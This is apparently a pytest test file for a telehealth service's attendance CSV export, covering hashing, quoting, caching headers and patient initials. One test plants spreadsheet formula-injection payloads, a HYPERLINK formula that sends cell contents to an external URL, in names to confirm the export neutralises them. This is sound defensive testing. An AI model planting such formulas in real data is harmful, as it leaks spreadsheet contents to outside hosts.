"""The attendance table: one row a patient, safe in a spreadsheet, each row with a hash of itself."""

from __future__ import annotations

import csv
import hashlib
import io
from typing import Any
from uuid import UUID

import pytest

from sessions.audit_csv import COLUMNS
from telehealth.accounts.models import User
from telehealth.programs.models import CreditTerms, Program
from tests.cast import Cast

from .browsing import Browser
from .stories import example_b, running

pytestmark = pytest.mark.django_db


def table(cast: Cast, pk: UUID, reader: User | None = None) -> list[list[str]]:
    answer: Any = Browser(reader or cast.auditor, cast.at).get("sessions:audit_csv", pk)
    assert answer.status_code == 200
    return list(csv.reader(io.StringIO(answer.content.decode(), newline=""), strict=True))


def row_of(cast: Cast, pk: UUID, person: User) -> dict[str, str]:
    header, *rows = table(cast, pk)
    patient = str(cast.record_of(person).pk)
    return next(dict(zip(header, row, strict=True)) for row in rows if row[0] == patient)


def test_it_is_a_file_to_download_that_nothing_keeps(cast: Cast) -> None:
    group = example_b(cast)
    answer = Browser(cast.admin, cast.at).get("sessions:audit_csv", group.pk)
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == f'attachment; filename="attendance-{group.pk}.csv"'
    assert answer["Cache-Control"] == "no-store"
    # RFC 4180: lines end with CR LF, the last one too.
    lines = answer.content.split(b"\r\n")
    assert (len(lines), lines[-1]) == (4, b"")
    assert b"\n" not in answer.content.replace(b"\r\n", b"")


def test_the_header_names_every_column_and_a_row_is_the_worked_example(cast: Cast) -> None:
    group = example_b(cast)
    assert tuple(table(cast, group.pk)[0]) == (*COLUMNS, "row_sha256")
    row = row_of(cast, group.pk, cast.patient)
    terms = CreditTerms.objects.get(pk=group.terms_id)
    expected = {
        "initials": "PE",
        "service_date": "2026-03-03",
        "session_id": str(group.pk),
        "service_type": "group_therapy",
        "scheduled_start": "2026-03-03T14:00:00Z",
        "scheduled_end": "2026-03-03T17:15:00Z",
        "opened_at": "2026-03-03T14:00:00Z",
        "ended_at": "2026-03-03T17:15:00Z",
        "lobby_at": "2026-03-03T14:12:20Z",
        "first_present": "2026-03-03T14:12:20Z",
        "last_present": "2026-03-03T17:09:00Z",
        "presence": "2026-03-03T14:12:20Z/2026-03-03T15:02:00Z; 2026-03-03T15:03:30Z/2026-03-03T16:10:00Z; "
        "2026-03-03T16:17:10Z/2026-03-03T17:09:00Z",
        "devices": "3",
        "gaps": "2026-03-03T14:00:00Z/2026-03-03T14:12:20Z; 2026-03-03T16:10:00Z/2026-03-03T16:17:10Z; "
        "2026-03-03T17:09:00Z/2026-03-03T17:15:00Z",
        "bridged_seconds": "90",
        "breaks": "2026-03-03T15:30:00Z/2026-03-03T15:45:00Z",
        "no_facilitator": "",
        "facilitators": "Thea Example",
        "group_size": "2",
        "qualified_seconds": "9270",
        "strict_seconds": "9180",
        "credited_min": "154",
        "billable_min": "153",
        "hours_min": "154",
        "ratio": "0.8583",
        "status": "PARTIAL",
        "flags": "BRIDGED EARLY_LEAVE LATE",
        "is_final": "yes",
        "terms": terms.name,
        "terms_version": str(terms.version),
        "program": "Harbor",
        "program_zone": "America/New_York",
        "generated_by": str(cast.auditor.pk),
        "generated_at": "2026-03-04T15:00:00Z",
    }
    assert {name: row[name] for name in expected} == expected


def test_a_row_carries_the_hash_of_its_other_cells(cast: Cast) -> None:
    group = example_b(cast)
    _, *rows = table(cast, group.pk)
    assert len(rows) == 2
    for *cells, digest in rows:
        assert hashlib.sha256("\n".join(cells).encode()).hexdigest() == digest
    assert rows[0][-1] != rows[1][-1]


@pytest.mark.parametrize(
    "sign", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
)
def test_no_cell_is_a_formula(cast: Cast, sign: str) -> None:
    attack = f'{sign}HYPERLINK("https://example.org?"&A1,"x, y")'
    User.objects.filter(pk__in=[cast.therapist.pk, cast.patient.pk]).update(given_name=attack)
    Program.objects.filter(pk=cast.program.pk).update(name=attack)
    known, _ = running(cast)
    answer = Browser(cast.admin, known).get("sessions:audit_csv", cast.group_session.pk)
    rows = list(csv.DictReader(io.StringIO(answer.content.decode(), newline=""), strict=True))
    assert {row["program"] for row in rows} == {f"'{attack}"}
    assert not [cell for row in rows for cell in row.values() if cell.startswith(sign)]


def test_quotes_commas_and_line_feeds_stay_in_their_cell(cast: Cast) -> None:
    name = 'O"Brien, "Kit"\r\nSecond line'
    User.objects.filter(pk=cast.therapist.pk).update(family_name=name, credential='LCSW, "PhD"')
    group = example_b(cast)
    header, *rows = table(cast, group.pk)
    assert {len(row) for row in rows} == {len(header)}
    assert row_of(cast, group.pk, cast.patient)["facilitators"] == f'Thea {name}, LCSW, "PhD"'


def test_a_file_of_a_running_session_says_that_it_is_not_final(cast: Cast) -> None:
    known, _ = running(cast)
    answer = Browser(cast.admin, known).get("sessions:audit_csv", cast.group_session.pk)
    rows = list(csv.DictReader(io.StringIO(answer.content.decode(), newline="")))
    assert {row["is_final"] for row in rows} == {"no"}
    assert {row["ended_at"] for row in rows} == {""}


def test_a_session_that_was_never_held_gives_a_table_all_the_same(cast: Cast) -> None:
    _, *rows = table(cast, cast.group_session.pk)
    assert len(rows) == 3


def test_names_are_not_in_it_but_initials(cast: Cast) -> None:
    group = example_b(cast)
    text = str(table(cast, group.pk))
    assert cast.patient.given_name not in text
    assert cast.patient.email not in text
